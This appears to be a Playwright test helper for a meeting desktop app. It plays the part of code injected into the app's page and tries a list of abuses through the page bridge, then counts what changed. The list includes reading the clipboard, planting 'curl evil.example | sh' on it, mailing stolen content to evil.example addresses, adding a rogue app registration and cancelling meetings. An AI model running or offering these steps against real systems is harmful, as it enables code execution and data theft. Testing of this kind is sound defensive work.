import type { Page } from "@playwright/test";

import { eventDraft, plainEvent } from "../../fakes/event-draft.ts";
import type { Sandbox } from "../../sandbox/sandbox.ts";
import type { RunningApp } from "../launch.ts";

/** What somebody would want who got code into a page of ours. */
export const attacks = [
  "read the clipboard",
  "put a command on the clipboard",
  "make meetings",
  "send what it stole to strangers",
  "open addresses",
  "add an app registration",
  "keep sign-ins unprotected",
  "cancel meetings",
  "sign everybody out",
  "forget everything",
] as const;
export type Attack = (typeof attacks)[number];

/** What somebody else copied, and what they would run if they pasted it. */
export const secret = "correct horse battery staple";
const command = "curl evil.example | sh";
const strangers = Array.from({ length: 100 }, (_, n) => ({
  address: `buyer${n}@evil.example`,
  name: null,
}));
const stolen = {
  ...eventDraft,
  subject: "Stolen",
  event: { ...plainEvent, invitees: strangers, message: "All that was on the screen" },
};

const given = { command, stolen };

/** Runs in the page: each attack once, by the bridge that the page has. Answers what it read. */
async function strike([name, { command: text, stolen: draft }]: readonly [
  Attack,
  typeof given,
]): Promise<readonly string[]> {
  const { app } = window;
  const answer = await app.getState();
  if (!answer.ok) return [];
  const { accounts, organisations } = answer.value;
  const listed = await app.listMeetings({ query: "", from: 0, count: 10_000 });
  const recent = listed.ok ? listed.value.meetings : [];
  switch (name) {
    case "read the clipboard": {
      const pasted = await app.pasteJoinText();
      return pasted.ok ? [pasted.value] : [];
    }
    case "put a command on the clipboard":
      await app.copySample({
        copyFormat: "template",
        template: text,
        includeTime: false,
        includeMeetingId: false,
        includeDialIn: false,
        invitationLanguage: "app",
      });
      return [];
    case "make meetings":
      await app.meetNow({ again: true });
      await app.schedule({ ...draft, event: null, draftId: crypto.randomUUID() });
      return [];
    case "send what it stole to strangers":
      await app.schedule({ ...draft, draftId: crypto.randomUUID() });
      return [];
    case "open addresses":
      if (recent[0]) await app.openMeeting({ id: recent[0].id, where: "browser" });
      await app.join({ text: "123 456 789 012 3", passcode: "aB3dE6", how: "browser" });
      await app.openPersonalTeams();
      return [];
    case "add an app registration":
      await app.saveOrganisation({
        id: null,
        clientId: crypto.randomUUID(),
        tenant: "evil.example",
        cloud: "global",
      });
      return [];
    case "keep sign-ins unprotected":
      await app.changeSettings({ keepWithoutKeyring: true });
      return [];
    case "cancel meetings":
      for (const { id } of recent) await app.cancelMeeting({ id });
      return [];
    case "sign everybody out":
      for (const { account } of accounts)
        await app.signOut({ accountId: account.id, atMicrosoft: false });
      for (const { id } of organisations) await app.removeOrganisation({ id });
      return [];
    case "forget everything":
      await app.forgetEverything();
      return [];
  }
}

/** Everything at once, or one of them; answers how often the secret was read. */
export async function attack(page: Page, names: readonly Attack[]): Promise<number> {
  let read = 0;
  for (const name of names) {
    const texts = await page.evaluate(strike, [name, given] as const);
    read += texts.filter((text) => text.includes(secret)).length;
  }
  return read;
}

/** What there is, as the world outside the page has it. */
export interface Books {
  readonly commands: number;
  readonly meetings: number;
  readonly invitations: number;
  readonly opened: number;
  readonly registrations: number;
  readonly unprotected: number;
  readonly cancelled: number;
  readonly accounts: number;
}

export async function lookAt(
  { app, page }: { readonly app: RunningApp; readonly page: Page },
  sandbox: Sandbox,
): Promise<Books> {
  // Whatever was begun in the background is there by then.
  await new Promise((resolve) => setTimeout(resolve, 300));
  const answer = await page.evaluate(() => window.app.getState());
  if (!answer.ok) throw new Error("The app does not say how it is");
  const { organisations, settings, accounts, leaving } = answer.value;
  const gone = sandbox.meetings().filter(({ deletedAt }) => deletedAt !== null).length;
  const events = sandbox.events();
  return {
    commands: (await app.clipboardText()).includes(command) ? 1 : 0,
    meetings: sandbox.meetings().length,
    invitations: events.reduce((sum, { attendees }) => sum + attendees.length, 0),
    opened: (await app.opened()).length,
    registrations: organisations.filter(({ kind }) => kind === "own").length,
    unprotected: settings.keepWithoutKeyring ? 1 : 0,
    cancelled: gone + leaving.length,
    accounts: accounts.length,
  };
}

/** What came of it; a sign-out is one account fewer. */
export function changesBetween(before: Books, after: Books): Readonly<Record<keyof Books, number>> {
  const more = (name: keyof Books) => after[name] - before[name];
  return {
    commands: more("commands"),
    meetings: more("meetings"),
    invitations: more("invitations"),
    opened: more("opened"),
    registrations: more("registrations"),
    unprotected: more("unprotected"),
    cancelled: more("cancelled"),
    accounts: Math.abs(more("accounts")),
  };
}
